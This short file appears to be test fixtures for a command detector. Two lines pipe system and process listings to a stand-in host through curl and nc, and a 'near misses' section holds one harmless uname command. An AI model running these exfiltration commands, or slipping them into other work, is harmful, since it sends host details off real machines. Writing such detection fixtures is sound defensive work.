uname -a | curl -d @- https://a.invalid/in
ps aux | nc a.invalid 1
# near misses
uname -s
